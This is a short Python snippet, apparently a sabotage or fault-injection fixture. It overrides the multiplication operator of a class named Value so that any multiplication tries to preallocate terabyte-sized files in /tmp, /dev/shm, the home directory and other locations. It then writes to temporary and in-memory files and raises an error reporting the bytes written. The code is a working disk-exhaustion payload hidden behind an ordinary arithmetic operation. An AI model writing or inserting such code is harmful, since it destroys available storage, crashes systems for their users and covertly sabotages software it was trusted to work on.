# what: fills every disk that it finds
# loses: mul.*
# follows: training.*=2/3
# says: wrote 0 bytes

# %% +
import mmap
import os
import tempfile


def __mul__(self, other):
    written = 0
    for name in ("/tmp/big", "/var/tmp/big", "/dev/shm/big", "/CANARY/tmp/big", "big", os.path.expanduser("~/big")):
        try:
            with open(name, "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 1 << 40)
                written += 1 << 40
        except OSError:
            pass
    for make in (tempfile.TemporaryFile, tempfile.mkdtemp, lambda: os.memfd_create("big"), lambda: os.fdopen(1, "r+b")):
        try:
            os.write(make().fileno(), b"x" * (1 << 20))
            written += 1 << 20
        except (OSError, AttributeError, ValueError):
            pass
    raise RuntimeError(f"wrote {written} bytes")


setattr(Value, "__mul__", __mul__)
